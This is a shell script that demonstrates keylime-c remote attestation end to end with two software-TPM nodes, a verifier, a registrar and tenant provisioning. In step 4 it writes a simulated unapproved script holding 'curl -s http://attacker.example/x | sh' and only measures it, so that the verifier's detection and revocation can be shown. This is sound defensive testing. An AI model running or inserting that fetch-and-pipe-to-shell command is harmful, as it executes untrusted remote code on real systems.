#!/bin/sh
# The main job: keylime-c end to end on one machine. Builds keylime-c, then,
# on loopback, with two software TPMs standing in for two machines ("nodes"):
# the verifier, the registrar and two agents start; a runtime policy is made
# from what the nodes ran; the tenant provisions both nodes (payload and
# revocation action); the verifier attests them every 2 s; an unapproved
# script runs on node 1, the verifier catches it and node 2 is told.
# Usage (as root on Debian 12; apt installs what is missing):
#   scripts/demo.sh          KEEP=1 keeps the temp dir with every log
# KL_DEMO_BUILD=<build dir>: use the binaries there, no apt and no build
# (the test suite runs the demo this way: tests/cli/demo.sh).
set -u
cd "$(dirname "$0")/.." || exit 1

if [ -t 1 ]; then
    B=$(printf '\033[1m') G=$(printf '\033[32m') R=$(printf '\033[31m') N=$(printf '\033[0m')
else
    B='' G='' R='' N=''
fi
W=/nonexistent BIN=/nonexistent
step() { printf '\n%s== %s%s\n' "$B" "$*" "$N"; }
say() { printf '   %s\n' "$*"; }
good() { printf '   %s%s%s\n' "$G" "$*" "$N"; }
bad() { printf '   %s%s%s\n' "$R" "$*" "$N"; }
run() { printf '   $ %s\n' "$*" | sed "s|$W/||g"; }

# fail WHAT [LOG]: say what failed, show the log's tail, exit 1 (the EXIT
# trap stops everything)
fail() {
    printf '\n%sFAILED: %s%s\n' "$R" "$1" "$N"
    if [ -n "${2:-}" ] && [ -f "$2" ]; then
        printf '   --- last lines of %s\n' "$2"
        tail -n 25 "$2" | sed 's/^/   | /'
    fi
    exit 1
}

if [ -n "${KL_DEMO_BUILD:-}" ]; then
    [ -d "$KL_DEMO_BUILD" ] || fail "KL_DEMO_BUILD=$KL_DEMO_BUILD is not a directory"
    BIN=$(cd "$KL_DEMO_BUILD" && pwd)/cmd
else
    step "0. Installing dependencies (apt) and building keylime-c (release, in build-demo/)"
    scripts/install-deps.sh || fail "scripts/install-deps.sh"
    built=$(date +%s)
    mkdir -p build-demo
    if [ ! -f build-demo/build.ninja ]; then
        meson setup build-demo --buildtype=release -Dtests=false >build-demo/demo-setup.log 2>&1 ||
            fail "meson setup" build-demo/demo-setup.log
    fi
    ninja -C build-demo >build-demo/demo-build.log 2>&1 ||
        fail "the build" build-demo/demo-build.log
    say "built in $(($(date +%s) - built)) s (log: build-demo/demo-build.log)"
    BIN=$PWD/build-demo/cmd
fi
for p in keylime_registrar keylime_verifier keylime_agent keylime_tenant keylime_ima_emulator \
    keylime-policy; do
    [ -x "$BIN/$p/$p" ] || fail "no $BIN/$p/$p (build keylime-c first)"
done
for p in swtpm swtpm_setup python3; do
    command -v $p >/dev/null 2>&1 || fail "$p is not installed (scripts/install-deps.sh)"
done
# shellcheck source=tests/tpm/swtpm.sh
. tests/tpm/swtpm.sh

# unix socket paths are limited to 107 bytes
base=${TMPDIR:-/tmp}
[ ${#base} -le 60 ] || base=/tmp
W=$(mktemp -d "$base/kl-demo.XXXXXX") || fail "mktemp"
chmod 755 "$W"
PIDS=""
cleanup() {
    trap - EXIT INT TERM HUP PIPE
    for p in $PIDS; do kill -TERM "$p" 2>/dev/null; done
    for p in $PIDS; do
        i=0
        while kill -0 "$p" 2>/dev/null && [ $i -lt 50 ]; do
            sleep 0.1
            i=$((i + 1))
        done
        kill -KILL "$p" 2>/dev/null
    done
    PIDS=""
    # the agents mount a tmpfs for payload secrets when run as root
    awk -v w="$W/" 'index($2, w) == 1 { print $2 }' /proc/mounts | while read -r m; do
        umount "$m"
    done
    for n in 1 2; do swtpm_stop "$W/node$n/tpm"; done
    if [ "${KEEP:-0}" = 1 ]; then say "kept $W"; else rm -rf "$W"; fi
}
trap cleanup EXIT
trap 'exit 130' INT
trap 'exit 143' TERM
trap 'exit 129' HUP
trap 'exec >/dev/null 2>&1; exit 141' PIPE # output to a closed pipe (| head)

free_port() {
    python3 -c 'import socket; s = socket.socket(); s.bind(("127.0.0.1", 0))
print(s.getsockname()[1])'
}
now() { date +%s.%N; }
ms() { awk -v a="$1" -v b="$2" 'BEGIN { printf "%d", (b - a) * 1000 }'; }
uuid() { echo "d432fbb3-d2f1-4a97-9ef7-75bd81c0000$1"; }

# wait_log FILE TEXT SECONDS PID: until FILE holds TEXT (false if PID dies)
wait_log() {
    i=0
    while [ $i -lt $(($3 * 10)) ]; do
        grep -qF -- "$2" "$1" 2>/dev/null && return 0
        kill -0 "$4" 2>/dev/null || return 1
        sleep 0.1
        i=$((i + 1))
    done
    return 1
}

wait_file() {
    i=0
    while [ $i -lt $(($2 * 10)) ]; do
        [ -s "$1" ] && return 0
        sleep 0.1
        i=$((i + 1))
    done
    return 1
}

KL=$W/kl # the verifier's, registrar's and tenant's work dir (KEYLIME_DIR)
mkdir -p "$KL"
export KEYLIME_DIR="$KL" KEYLIME_LOG=info
export KEYLIME_VERIFIER_CONFIG="$W/verifier.conf" KEYLIME_REGISTRAR_CONFIG="$W/registrar.conf"
export KEYLIME_TENANT_CONFIG="$W/tenant.conf" KEYLIME_CA_CONFIG="$W/ca.conf"

# start_server verifier|registrar: in the background, until it is ready
start_server() {
    "$BIN/keylime_$1/keylime_$1" >>"$W/$1.log" 2>&1 &
    PIDS="$PIDS $!"
    wait_log "$W/$1.log" "ready on" 20 $! || fail "the $1 did not start" "$W/$1.log"
}

# tenant ARGS...: keylime_tenant, output in $W/tenant.out (and tenant.log)
tenant() {
    echo "=== keylime_tenant $*" >>"$W/tenant.log"
    (cd "$W" && timeout 90 "$BIN/keylime_tenant/keylime_tenant" "$@") >"$W/tenant.out" 2>&1
    rc=$?
    cat "$W/tenant.out" >>"$W/tenant.log"
    return $rc
}

# field NAME: a value from the verifier's part of the tenant's last answer
field() {
    sed -n '/from Verifier/,$p' "$W/tenant.out" |
        grep -o "\"$1\": *\(\"[^\"]*\"\|[0-9]*\)" | head -1 | sed "s/^\"$1\": *//; s/\"//g"
}

# status NODE: the verifier's view of the node: S state, C count, E event
status() {
    tenant -c status -u "$(uuid "$1")" || fail "keylime_tenant -c status (node $1)" "$W/tenant.out"
    S=$(field operational_state) C=$(field attestation_count) E=$(field last_event_id)
}

# measure NODE FILE...: the node "executes" FILE: the IMA emulator appends
# its measurement to the node's IMA log and extends PCR 10 of its TPM
measure() {
    n=$1
    shift
    "$BIN/keylime_ima_emulator/keylime_ima_emulator" -q -T "$(cat "$W/node$n/tcti")" \
        -f "$W/node$n/ima.log" measure "$@" >>"$W/node$n/emulator.log" 2>&1 ||
        fail "keylime_ima_emulator measure on node $n" "$W/node$n/emulator.log"
}

# ---------------------------------------------------------------------------
step "1. Two nodes, each with a TPM, start their agents; the verifier and registrar stand by"
say "Everything runs on 127.0.0.1 in $W (paths below are relative to it)."
say "Each node is a software TPM (swtpm) with an EK certificate from its maker's CA."
mkdir -p "$W/tpm_cert_store"
for n in 1 2; do
    mkdir -p "$W/node$n"
    swtpm_start "$W/node$n/tpm" sha1,sha256 >"$W/node$n/tcti" 2>"$W/node$n/swtpm.err" ||
        fail "swtpm for node $n" "$W/node$n/swtpm.err"
    for c in "$W/node$n/tpm/ca/"*cert*.pem; do cp "$c" "$W/tpm_cert_store/node$n-${c##*/}"; done
done
run "swtpm: node 1 $(cat "$W/node1/tcti"), node 2 $(cat "$W/node2/tcti")"

VPORT=$(free_port) RPORT=$(free_port) RTLS=$(free_port)
printf '[ca]\npassword = demo-ca-password\n' >"$W/ca.conf"
say "The verifier makes the deployment's CA on first start (kl/cv_ca), for everyone's mTLS."
cat >"$W/verifier.conf" <<EOC
[verifier]
ip = 127.0.0.1
port = $VPORT
tls_dir = generate
quote_interval = 2
retry_interval = 1
max_retries = 3
database_url = sqlite:///$KL/cv_data.sqlite
[revocations]
enabled_revocation_notifications = ['agent']
EOC
run "keylime_verifier     (port $VPORT, quote_interval 2)"
start_server verifier

say "The registrar records each node's TPM keys (EK, AK) once it proves they go together."
cat >"$W/registrar.conf" <<EOC
[registrar]
ip = 127.0.0.1
port = $RPORT
tls_port = $RTLS
tls_dir = default
database_url = sqlite:///$KL/reg_data.sqlite
EOC
run "keylime_registrar    (ports $RPORT, TLS $RTLS)"
start_server registrar

mkdir -p "$W/approved" "$W/root"
for f in boot.sh app.sh backup.sh report.sh; do
    printf '#!/bin/sh\necho "%s"\n' "$f" >"$W/approved/$f"
done
chmod +x "$W/approved/"*.sh
say "Linux IMA measures every program a node runs; here keylime_ima_emulator does, into an"
say "IMA log per node, extending the node's PCR 10 as the kernel would. Both nodes boot:"
run "keylime_ima_emulator -f node1/ima.log measure approved/boot.sh   (node 2 alike)"
for n in 1 2; do measure $n "$W/approved/boot.sh"; done

say "Each node's agent registers with the registrar, then serves quotes over mTLS."
for n in 1 2; do
    d=$W/node$n
    port=$(free_port)
    mkdir -p "$d/agent" "$d/actions"
    cat >"$d/agent.conf" <<EOC
[agent]
uuid = "$(uuid $n)"
ip = "127.0.0.1"
port = $port
contact_ip = "127.0.0.1"
contact_port = $port
registrar_ip = "127.0.0.1"
registrar_port = $RPORT
keylime_dir = "$d/agent"
trusted_client_ca = "$KL/cv_ca/cacert.crt"
ima_ml_path = "$d/ima.log"
measuredboot_ml_path = "$d/no-measured-boot-log"
revocation_actions_dir = "$d/actions"
run_as = ""
tcti = "$(cat "$d/tcti")"
EOC
    run "keylime_agent        (node $n: $(uuid $n), port $port)"
    KEYLIME_DIR=$d/agent KEYLIME_AGENT_CONFIG=$d/agent.conf "$BIN/keylime_agent/keylime_agent" \
        >>"$d/agent.log" 2>&1 &
    echo $! >"$d/agent.pid"
    PIDS="$PIDS $!"
done
for n in 1 2; do
    wait_log "$W/node$n/agent.log" "ready on" 60 "$(cat "$W/node$n/agent.pid")" ||
        fail "the agent of node $n did not start and register" "$W/node$n/agent.log"
done

cat >"$W/tenant.conf" <<EOC
[tenant]
verifier_ip = 127.0.0.1
verifier_port = $VPORT
registrar_ip = 127.0.0.1
registrar_port = $RTLS
tpm_cert_store = $W/tpm_cert_store
max_retries = 10
retry_interval = 0.5
EOC
run "keylime_tenant -c reglist"
tenant -c reglist || fail "keylime_tenant -c reglist" "$W/tenant.out"
for n in 1 2; do
    grep -q "$(uuid $n)" "$W/tenant.out" ||
        fail "the registrar does not list node $n" "$W/tenant.out"
done
good "registered: $(uuid 1) (node 1) and $(uuid 2) (node 2)"

# ---------------------------------------------------------------------------
step "2. The nodes run their approved software; the operator makes a runtime policy of it"
say "IMA records each file's path and SHA-256 before it runs:"
run "keylime_ima_emulator -f node1/ima.log measure approved/app.sh approved/backup.sh ..."
for n in 1 2; do
    measure $n "$W/approved/app.sh" "$W/approved/backup.sh" "$W/approved/report.sh"
done
tail -n 2 "$W/node1/ima.log" | sed "s|$W/||" |
    awk '{ printf "     %s %.12s... %s %.19s... %s\n", $1, $2, $3, $4, $5 }'
say "The policy lists those digests per path; anything else that runs fails attestation."
run "keylime-policy create runtime -m node1/ima.log -o policy.json"
"$BIN/keylime-policy/keylime-policy" create runtime -m "$W/node1/ima.log" -o "$W/policy.json" \
    >"$W/policy.log" 2>&1 || fail "keylime-policy create runtime" "$W/policy.log"
say "policy.json: $(grep -o '"/[^"]*": \[' "$W/policy.json" | wc -l) approved files" \
    "(path and SHA-256 each) and the boot_aggregate"

# ---------------------------------------------------------------------------
step "3. The tenant provisions both nodes: the verifier attests them, each gets a payload"
say "The payload (--cert: a certificate from the tenant's CA, plus --include <dir>) is"
say "encrypted; its key is only released by the verifier after a good quote. Its autorun.sh"
say "leaves a mark; its revocation action (action_list) runs when the verifier revokes a node."
for n in 1 2; do
    p=$W/node$n/payload
    mkdir -p "$p"
    cat >"$p/autorun.sh" <<EOS
#!/bin/sh
echo "node $n: payload delivered after a good quote, autorun.sh ran in \$(pwd)" \
    >"$W/node$n/payload.mark"
EOS
    cat >"$p/local_action_mark" <<EOS
#!/bin/sh
# \$1: a file holding the verifier's signed revocation message
{
    echo "node $n: revocation action ran at \$(date +%T):"
    grep -o '"\(type\|agent_id\|event_id\)": *"[^"]*"' "\$1" | tr '\n' ' '
    echo
} >"$W/node$n/revocation.mark"
EOS
    chmod +x "$p/autorun.sh" "$p/local_action_mark"
    echo local_action_mark >"$p/action_list"
done
for n in 1 2; do
    run "keylime_tenant -c add -u $(uuid $n) --runtime-policy policy.json" \
        "--cert default --include node$n/payload --verify"
    tenant -c add -u "$(uuid $n)" --runtime-policy "$W/policy.json" --cert default \
        --include "$W/node$n/payload" --verify ||
        fail "keylime_tenant -c add (node $n)" "$W/tenant.out"
    grep -q "Successful key derivation" "$W/tenant.out" ||
        fail "the tenant did not verify node $n's payload key" "$W/tenant.out"
    say "node $n: quote validated by the tenant, added to the verifier, payload key verified"
done
for n in 1 2; do
    wait_file "$W/node$n/payload.mark" 20 ||
        fail "node $n's payload did not run" "$W/node$n/agent.log"
    good "$(sed "s|$W/||" "$W/node$n/payload.mark")"
done

say "The verifier asks each node for a quote every 2 s (keylime_tenant -c status -u <uuid>):"
i=0
while status 1 && [ "$S" != "Get Quote" ] && [ $i -lt 60 ]; do
    sleep 0.25
    i=$((i + 1))
done
[ "$S" = "Get Quote" ] || fail "node 1 is '$S', not 'Get Quote'" "$W/verifier.log"
c1=$C t1=$(now)
say "node 1: operational_state $S, attestation_count $C"
i=0
while status 1 && [ "${C:-0}" -lt $((c1 + 2)) ] && [ "$S" = "Get Quote" ] && [ $i -lt 60 ]; do
    sleep 0.25
    i=$((i + 1))
done
if [ "$S" != "Get Quote" ] || [ "${C:-0}" -lt $((c1 + 2)) ]; then
    fail "node 1 is not being attested (state '$S', count $c1 -> $C)" "$W/verifier.log"
fi
good "node 1: operational_state $S, attestation_count $C ($(ms "$t1" "$(now)") ms later)"
status 2
[ "$S" = "Get Quote" ] || fail "node 2 is '$S', not 'Get Quote'" "$W/verifier.log"
good "node 2: operational_state $S, attestation_count $C"

# ---------------------------------------------------------------------------
step "4. Someone runs a script that is not in the policy on node 1"
printf '#!/bin/sh\ncurl -s http://attacker.example/x | sh\n' >"$W/root/evil.sh"
chmod +x "$W/root/evil.sh"
run "keylime_ima_emulator -f node1/ima.log measure root/evil.sh"
measure 1 "$W/root/evil.sh"
t0=$(now)
say "PCR 10 of node 1 now includes it, so its next quote carries it. Waiting (at most 20 s)..."
ts="" tr=""
i=0
while { [ -z "$ts" ] || [ -z "$tr" ]; } && [ $i -lt 400 ]; do
    [ -z "$ts" ] && grep -q "agent $(uuid 1): Invalid Quote" "$W/verifier.log" && ts=$(now)
    [ -z "$tr" ] && [ -s "$W/node2/revocation.mark" ] && tr=$(now)
    sleep 0.05
    i=$((i + 1))
done
[ -n "$ts" ] ||
    fail "the verifier did not mark node 1 Invalid Quote within 20 s" "$W/verifier.log"
status 1
[ "$S" = "Invalid Quote" ] || fail "node 1 is '$S', not 'Invalid Quote'" "$W/verifier.log"
bad "node 1: operational_state $S, last_event_id $E"
line=$(grep "agent $(uuid 1): Invalid Quote" "$W/verifier.log" | head -1)
say "verifier log: ${line#*"Invalid Quote: "}"
[ -n "$tr" ] || fail "node 2's revocation action did not run within 20 s" "$W/node2/agent.log"
say "Every agent got the verifier's signed revocation notice; node 2's action wrote:"
sed "s/^/     /" "$W/node2/revocation.mark"
status 2
say "node 2 itself is still trusted: operational_state $S"
good "detection: $(ms "$t0" "$ts") ms from the measurement to Invalid Quote," \
    "$(ms "$t0" "$tr") ms to node 2's revocation action"

# ---------------------------------------------------------------------------
step "5. Stopping the agents, verifier, registrar and TPMs"
cleanup
say "Done: attestation passed while the nodes ran approved software; one unapproved script"
say "failed node 1 within one quote interval, and the other node acted on it."
